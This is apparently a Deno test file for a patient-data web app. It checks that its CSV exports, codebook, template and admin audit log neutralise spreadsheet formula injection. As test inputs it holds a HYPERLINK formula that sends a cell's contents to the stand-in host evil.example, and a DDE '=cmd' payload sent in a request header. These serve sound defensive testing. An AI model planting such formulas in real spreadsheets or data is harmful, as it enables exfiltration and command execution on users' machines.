/**
 * Every CSV the app writes goes through the one writer: problems.csv, the patient export (plain
 * and de-identified), the codebook, the template and the admins' audit log hold no cell that a
 * spreadsheet would run as a formula — and the export still gives back the dataset exactly.
 */
import assert from "node:assert/strict";
import { setAdmin } from "../db/accounts/admin.ts";
import { patientCsvLine } from "../lib/patient_export.ts";
import { LISTED_PROBLEMS } from "../lib/import_report.ts";
import { apiTest } from "./helpers/api.ts";
import { assertNoFormulaCells, csvRow, FORMULAS, HEADER } from "./helpers/csv_files.ts";
import { FIRST_ROW } from "./helpers/fixtures.ts";
import { testWithAnn } from "./helpers/patients_pages.ts";
import type { TestBrowser } from "./helpers/test_browser.ts";

const P = "/api/patient_data";

function upload(ann: TestBrowser, text: string) {
  const form = new FormData();
  form.set("_csrf", ann.csrf);
  form.set("on_conflict", "skip");
  form.set("file", new File([text], "ward.csv", { type: "text/csv" }));
  return ann.request("/patients/import", { method: "POST", body: form });
}

testWithAnn(
  "problems.csv neutralises formulas and lists the first problems as kept, with how many more",
  () => Promise.resolve(),
  async (app, ann) => {
    await ann.get("/patients/import");
    const formulas = FORMULAS.map((f, i) => csvRow(i + 1, { gender: f })).join("");
    // Then more bad rows than are listed, among enough good ones that the file is read whole.
    const many = Array.from(
      { length: LISTED_PROBLEMS + 500 },
      (_, i) => csvRow(100 + 3 * i, { age: "old" }) + csvRow(101 + 3 * i) + csvRow(102 + 3 * i),
    ).join("");
    const url = (await upload(ann, HEADER + formulas + many)).headers.get("Location")!;
    await ann.get(url);
    // The file itself is gone: the download comes from what the preview kept, not a new check.
    await app.stores.accounts.run((db) => db.deleteFrom("import_chunks").execute());
    const res = await ann.get(`${url}/problems.csv`);
    assert.equal(res.status, 200);
    const csv = await res.text();
    assertNoFormulaCells(csv, "problems.csv");
    const lines = csv.trimEnd().split("\r\n");
    assert.equal(
      lines[1],
      `2,gender,"'=HYPERLINK(""http://evil.example/?""&A1,""Click"")",` +
        `"Gender must be ""Male"", ""Female"" or ""Other"""`,
    );
    assert.equal(lines.length, 1 + LISTED_PROBLEMS + 1);
    assert.equal(lines.at(-1), ',,,"… and 505 more problems, not listed"');
    const page = await (await ann.get(url)).text();
    assert.match(page, /And 505 more problems, not listed/);
  },
);

apiTest(
  "the export, the codebook, the template and the admins' audit CSV hold no formula cell",
  async ({ app, user, patients, newUser }) => {
    // Documents the original app stored as sent may hold any text.
    await patients.insertMany(user.id, [
      { ...FIRST_ROW, id: 1, gender: FORMULAS[0]!, work_type: FORMULAS[3]! } as never,
      { ...FIRST_ROW, id: 2 },
    ]);
    for (const query of ["", "?deidentify=true"]) {
      const res = await app.request(`${P}/export${query}`, {
        headers: { Authorization: `Bearer ${user.token}` },
      });
      assert.equal(res.status, 200);
      assertNoFormulaCells(await res.text(), `the export${query}`);
    }
    for (const path of ["/api/codebook?format=csv", `${P}/import/template`]) {
      assertNoFormulaCells(await (await app.request(path)).text(), path);
    }
    await user.api("PATCH", `${P}/2`, { age: 70 }, { "X-Change-Reason": "=cmd|' /C calc'!A0" });
    const admin = await newUser();
    await setAdmin(app.stores.accounts, admin.email, true);
    const audit = await admin.api("GET", "/api/admin/audit?format=csv");
    assertNoFormulaCells(audit.text, "the audit CSV");
    assert.match(audit.text, /,'=cmd\|' \/C calc'!A0,/);
  },
);

Deno.test("an exported line writes numbers as numbers and neutralises odd text", () => {
  assert.equal(
    patientCsvLine({
      ...FIRST_ROW,
      id: 7,
      age: 0.08,
      gender: "-2+3" as never,
      bmi: null,
      created_at: new Date(),
      updated_at: new Date(),
      revision: "r",
    }),
    "7,'-2+3,0.08,0,1,Yes,Private,Urban,228.69,N/A,formerly smoked,1\r\n",
  );
});
